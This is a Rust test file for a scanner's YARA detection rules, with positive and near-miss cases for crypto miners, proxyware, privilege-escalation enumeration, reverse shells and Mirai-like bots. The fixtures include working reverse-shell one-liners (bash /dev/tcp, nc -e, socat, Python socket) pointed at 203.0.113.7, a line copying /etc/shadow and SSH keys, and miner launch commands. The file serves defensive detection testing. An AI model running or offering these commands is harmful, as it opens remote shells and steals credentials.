//! YARA rules in the rule set: how metadata maps to findings, how errors name file, line and
//! rule, how the version follows the sources, and the starter set (`config/rules/yara/`) in
//! table form: authentic traits of each family must fire, near misses that share a word with
//! them must not.

use std::{path::PathBuf, time::Duration};

use hubcensus_rules::{
    FileKind, FileMeta, Match, RuleSet, RulesError, Trigger, YaraInput, YaraScope, YaraSource,
};
use hubcensus_types::{
    Category,
    Confidence::{self, High, Medium},
};

fn source(name: &str, text: &str) -> YaraSource {
    YaraSource { path: PathBuf::from(name), text: text.to_owned() }
}

fn with(sources: Vec<YaraSource>) -> Result<RuleSet, RulesError> {
    RuleSet::builtin().unwrap().with_yara(sources, YaraScope::default())
}

/// The starter set, read from the repository.
fn starter() -> &'static RuleSet {
    static RULES: std::sync::OnceLock<RuleSet> = std::sync::OnceLock::new();
    RULES.get_or_init(|| {
        let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../config/rules/yara");
        let mut sources: Vec<YaraSource> = std::fs::read_dir(&dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|e| e == "yar"))
            .map(|path| YaraSource { text: std::fs::read_to_string(&path).unwrap(), path })
            .collect();
        sources.sort_by(|a, b| a.path.cmp(&b.path));
        with(sources).expect("the starter set compiles")
    })
}

/// The YARA matches of `rules` on `data` at `path` (whole file, kind sniffed).
fn yara(rules: &RuleSet, path: &str, data: &[u8]) -> Vec<Match> {
    let file = FileMeta { path, kind: FileKind::sniff(data), size: data.len() as u64, executable: true };
    let input = YaraInput { data, offset: 0, seam: None, whole: true };
    let mut out = Vec::new();
    assert!(rules.yara_scanner().unwrap().scan(&file, input, Duration::from_secs(10), &mut out));
    out
}

/// An x86-64 ELF header, then each string between runs of code-like bytes.
fn elf(strings: &[&[u8]]) -> Vec<u8> {
    let mut out = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
    out.resize(64, 0);
    let mut x = 0x2545_f491_4f6c_dd1d_u64;
    for s in strings {
        for _ in 0..700 {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            out.push((x >> 24) as u8);
        }
        out.extend_from_slice(s);
        out.push(0);
    }
    out
}

fn xor22(s: &str) -> Vec<u8> {
    s.bytes().map(|b| b ^ 0x22).collect()
}

#[test]
fn metadata_decides_category_and_confidence_with_defaults() {
    let rules = with(vec![source(
        "user/My Rules.yar",
        r#"
rule plain { strings: $a = "plain-trait-x1" condition: $a }
rule ranked { meta: category = "hacking_tool" confidence = "low" description = "ranked" strings: $a = "ranked-trait-x2" condition: $a }
private rule helper { strings: $a = "helper-trait-x3" condition: $a }
"#,
    )])
    .unwrap();
    let plain = rules.rule("yara:My_Rules:plain").expect("namespace from the file stem");
    assert_eq!(
        (plain.category(), plain.confidence(), plain.trigger()),
        (Category::Other, Medium, Trigger::Yara)
    );
    assert_eq!(plain.file(), "user/My Rules.yar");
    let ranked = rules.rule("yara:My_Rules:ranked").unwrap();
    assert_eq!(
        (ranked.category(), ranked.confidence(), ranked.description()),
        (Category::HackingTool, Confidence::Low, "ranked")
    );
    assert!(rules.rule("yara:My_Rules:helper").is_none(), "private rules never report");
    let found = yara(&rules, "opt/x", b".. ranked-trait-x2 .. plain-trait-x1 ..");
    let ids: Vec<&str> = found.iter().map(|m| &*m.rule).collect();
    assert_eq!(ids, ["yara:My_Rules:plain", "yara:My_Rules:ranked"]);
    assert_eq!(found[0].preview, "$a@0x16: plain-trait-x1");
    assert_eq!(found[0].offset, Some(0x16));
}

#[test]
fn errors_name_the_file_the_line_and_the_rule() {
    let unknown_category = "rule first { condition: true }\n\nrule second {\n  meta:\n    author = \"x\"\n    category = \"crypto\"\n  condition: true\n}\n";
    let err = with(vec![source("rules/bad.yar", unknown_category)]).unwrap_err();
    let RulesError::YaraCompile { file, line, rule, message } = &err else { panic!("{err:?}") };
    assert_eq!((file.to_str(), *line, rule.as_deref()), (Some("rules/bad.yar"), 6, Some("second")));
    assert!(message.contains("unknown category \"crypto\"") && message.contains("cryptomining"), "{message}");
    assert!(err.to_string().starts_with("YARA rule file rules/bad.yar, line 6, rule second:"), "{err}");

    let err = with(vec![
        source("ok.yar", "rule fine { condition: true }"),
        source(
            "broken.yar",
            "rule a { condition: true }\nrule b {\n  strings: $x = \"y\"\n  condition: $x and\n}\n",
        ),
    ])
    .unwrap_err();
    let RulesError::YaraCompile { file, line, rule, .. } = &err else { panic!("{err:?}") };
    assert_eq!((file.to_str(), rule.as_deref()), (Some("broken.yar"), Some("b")), "{err}");
    assert!((4..=5).contains(line), "{err}");

    let err = with(vec![source(
        "conf.yar",
        "rule c {\n  meta:\n    confidence = \"certain\"\n  condition: true\n}\n",
    )])
    .unwrap_err();
    assert!(err.to_string().contains("conf.yar, line 3, rule c: unknown confidence"), "{err}");
    let err = with(vec![source("pe.yar", "import \"pe\"\nrule p { condition: pe.is_pe }\n")]).unwrap_err();
    assert!(err.to_string().contains("pe.yar, line 1"), "a module this build leaves out is named: {err}");
}

#[test]
fn the_version_covers_the_yara_sources_and_the_scope() {
    let builtin = RuleSet::builtin().unwrap();
    let a = with(vec![source("a.yar", "rule a { condition: true }")]).unwrap();
    let again = with(vec![source("elsewhere/a.yar", "rule a { condition: true }")]).unwrap();
    let edited = with(vec![source("a.yar", "rule a { condition: false }")]).unwrap();
    let scoped = RuleSet::builtin()
        .unwrap()
        .with_yara(
            vec![source("a.yar", "rule a { condition: true }")],
            YaraScope { archive_members: false, ..YaraScope::default() },
        )
        .unwrap();
    assert_ne!(a.version(), builtin.version());
    assert_eq!(a.version(), again.version(), "the same rules from another checkout");
    assert_ne!(a.version(), edited.version());
    assert_ne!(a.version(), scoped.version());
    assert_eq!(with(Vec::new()).unwrap().version(), builtin.version(), "no YARA: the built-in version");
}

/// One starter-set case: the rule, the file's path and bytes, and the confidence wanted.
struct Case {
    rule: &'static str,
    path: &'static str,
    data: Vec<u8>,
    want: Option<Confidence>,
}

fn case(rule: &'static str, path: &'static str, data: impl Into<Vec<u8>>, want: Option<Confidence>) -> Case {
    Case { rule, path, data: data.into(), want }
}

fn starter_cases() -> Vec<Case> {
    let xmrig_usage: &[u8] = b"  -o, --url=URL            URL of mining server\n  -O, --userpass=U:P       username:password pair for mining server\n";
    let pools_txt = br#""pool_list" :
[
	{"pool_address" : "pool.usxmrpool.com:3333", "wallet_address" : "", "rig_id" : "", "pool_password" : "", "use_nicehash" : false, "use_tls" : false, "tls_fingerprint" : "", "pool_weight" : 1 },
],
"currency" : "monero",
"#;
    vec![
        // XMRig and forks.
        case("xmrig_binary", "usr/local/bin/xmrig", elf(&[b"XMRig 6.21.0", b"donate.v2.xmrig.com"]), Some(High)),
        case("xmrig_binary", "opt/.cache/kswapd0", elf(&[xmrig_usage, b"--donate-level=N"]), Some(High)),
        case("xmrig_binary", "usr/bin/monitor", elf(&[b"--donate-level"]), None),
        case("xmrig_binary", "usr/share/doc/xmrig/README.md", [xmrig_usage, b"--donate-level=N donate.v2.xmrig.com\n"].concat(), None),
        // xmr-stak.
        case("xmr_stak_binary", "opt/xmr-stak/bin/xmr-stak", elf(&[b"xmr-stak 2.10.8", pools_txt]), Some(High)),
        case("xmr_stak_binary", "usr/bin/killer", elf(&[b"pkill xmr-stak"]), None),
        case("xmr_stak_pools_config", "opt/xmr-stak/pools.txt", &pools_txt[..], Some(Medium)),
        case("xmr_stak_pools_config", "app/pool.json", &br#"{"pool_address": "p:1", "wallet_address": "w"}"#[..], None),
        // cpuminer and cpuminer-multi.
        case("cpuminer_binary", "usr/local/bin/minerd", elf(&[b"User-Agent: cpuminer/2.5.1", b"Stratum notify: invalid Merkle branch"]), Some(High)),
        case("cpuminer_binary", "usr/local/bin/cpuminer", elf(&[b"hash > target (false positive)", b"User-Agent: cpuminer-opt/3.8"]), Some(High)),
        case("cpuminer_binary", "usr/bin/curl-wrapper", elf(&[b"User-Agent: cpuminer/2.5.1"]), None),
        // SRBMiner-MULTI and lolMiner.
        case("srbminer_lolminer", "opt/srb/SRBMiner-MULTI", elf(&[b"SRBMiner-MULTI 2.4.9", b"mining.subscribe"]), Some(High)),
        case("srbminer_lolminer", "opt/lol/lolMiner", elf(&[b"lolMiner 1.88", b"stratum+tcp://"]), Some(High)),
        case("srbminer_lolminer", "start.sh", b"#!/bin/bash\n./SRBMiner-MULTI --disable-gpu --algorithm randomx --pool xmr.pool.example:6666 --wallet 45Ffy.Worker_01\n".to_vec(), Some(High)),
        case("srbminer_lolminer", "run.sh", b"#!/bin/sh\n./lolMiner --algo ETHASH --pool eth.pool.example:4444 --user 0xabc.rig\n".to_vec(), Some(High)),
        case("srbminer_lolminer", "cleanup.sh", b"#!/bin/sh\nrm -f /opt/SRBMiner-MULTI /opt/lolMiner\n".to_vec(), None),
        case("srbminer_lolminer", "README.md", b"Run ./lolMiner --algo ETHASH --pool eth.pool.example:4444 --user 0xabc.rig\n".to_vec(), None),
        case("srbminer_lolminer", "usr/bin/tool", elf(&[b"SRBMiner-MULTI"]), None),
        // Proxyware.
        case("proxyware_client", "entrypoint.sh", b"#!/bin/sh\nexec honeygain -tou-accept -email \"$EMAIL\" -pass \"$PASS\" -device \"$DEVICE\"\n".to_vec(), Some(High)),
        case("proxyware_client", "usr/bin/pawns-cli", elf(&[b"pawns-cli", b"accept-tos"]), Some(High)),
        case("proxyware_client", "start.sh", b"#!/bin/sh\ndocker run -d traffmonetizer/cli start accept --token \"$TOKEN\"\n".to_vec(), Some(High)),
        case("proxyware_client", "run.sh", b"#!/bin/sh\nP2P_EMAIL=me@example.org ./p2pclient\n".to_vec(), Some(High)),
        case("proxyware_client", "app/.env", b"RP_EMAIL=me@example.org\nRP_API_KEY=0f4c2b7a\n".to_vec(), Some(High)),
        case("proxyware_client", "uninstall.sh", b"#!/bin/sh\nsystemctl stop honeygain; rm -rf /opt/honeygain\n".to_vec(), None),
        case("proxyware_client", "docs/faq.txt", b"Set P2P_EMAIL to your Peer2Profit login.\n".to_vec(), None),
        // Privilege-escalation enumeration.
        case("privesc_enumeration_script", "tmp/linpeas.sh", b"#!/bin/sh\n# linpeas.sh - PEASS-ng\nprint_title \"SUID\"\n".to_vec(), Some(High)),
        case("privesc_enumeration_script", "tmp/enum.sh", b"#!/bin/bash\nfind / -perm -4000 -type f 2>/dev/null\nsudo -l\ngetcap -r / 2>/dev/null\nls -la /var/run/docker.sock\n".to_vec(), Some(High)),
        case("privesc_enumeration_script", "usr/sbin/backup-keys", b"#!/bin/sh\nsudo -l >/dev/null && cp /etc/shadow /root/.ssh/id_rsa /backup/\n".to_vec(), None),
        case("privesc_enumeration_script", "notes.txt", b"linpeas and PEASS-ng: -perm -4000, sudo -l, getcap -r /, /etc/shadow\n".to_vec(), None),
        // Reverse shells.
        case("reverse_shell_one_liner", "tmp/r.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n".to_vec(), Some(High)),
        case("reverse_shell_one_liner", "etc/cron.d/job", b"* * * * * root nc -e /bin/sh 203.0.113.7 4444\n".to_vec(), Some(High)),
        case("reverse_shell_one_liner", "tmp/s.sh", b"#!/bin/sh\nsocat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4242\n".to_vec(), Some(High)),
        case("reverse_shell_one_liner", "tmp/p.py", b"import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")\n".to_vec(), Some(High)),
        case("reverse_shell_one_liner", "opt/x/run", b"#!/bin/sh\nnc -nv 203.0.113.7 4444 -e /bin/bash\n".to_vec(), Some(High)),
        // A listener is a bind shell, not a shell handed to a remote peer.
        case("reverse_shell_one_liner", "opt/x/listen", b"#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n".to_vec(), None),
        case("reverse_shell_one_liner", "healthcheck.sh", b"#!/bin/bash\nexec 3<>/dev/tcp/localhost/8080 && echo ok\n".to_vec(), None),
        case("reverse_shell_one_liner", "wait.sh", b"#!/bin/sh\nuntil nc -z db 5432; do sleep 1; done\n".to_vec(), None),
        case("reverse_shell_one_liner", "usr/lib/python3/pty_helper.py", b"import pty\npty.spawn('/bin/bash')\n".to_vec(), None),
        // Mirai-like bots.
        case(
            "mirai_like_bot",
            "tmp/.x/dvrHelper",
            elf(&[b"/dev/watchdog", b"/dev/misc/watchdog", &xor22("TSource Engine Query"), &xor22("/bin/busybox MIRAI")]),
            Some(High),
        ),
        case("mirai_like_bot", "bin/busybox", elf(&[b"/dev/watchdog", b"/dev/misc/watchdog", b"/bin/busybox", b"/proc/net/tcp"]), None),
        case("mirai_like_bot", "usr/bin/game-query", elf(&[b"/dev/watchdog", b"/dev/misc/watchdog", b"TSource Engine Query"]), None),
    ]
}

#[test]
fn starter_set() {
    let rules = starter();
    let cases = starter_cases();
    crate::table::check_each(&cases, |c| {
        let rule = format!("yara:{}:{}", namespace_of(c.rule), c.rule);
        (rule, c.want, yara(rules, c.path, &c.data), format!("at {}", c.path))
    });
    // Every starter rule has a positive and a near-miss negative here.
    for rule in rules.rules().filter(|r| r.trigger() == Trigger::Yara) {
        let name = rule.id().rsplit(':').next().unwrap();
        let wants: Vec<_> = cases.iter().filter(|c| c.rule == name).map(|c| c.want).collect();
        assert!(
            wants.iter().any(Option::is_some) && wants.contains(&None),
            "{}: a positive and a negative",
            rule.id()
        );
    }
}

/// The starter file (namespace) a rule is in.
fn namespace_of(rule: &str) -> &'static str {
    match rule {
        "proxyware_client" => "proxyware",
        "privesc_enumeration_script" | "reverse_shell_one_liner" | "mirai_like_bot" => "post_exploitation",
        _ => "miners",
    }
}
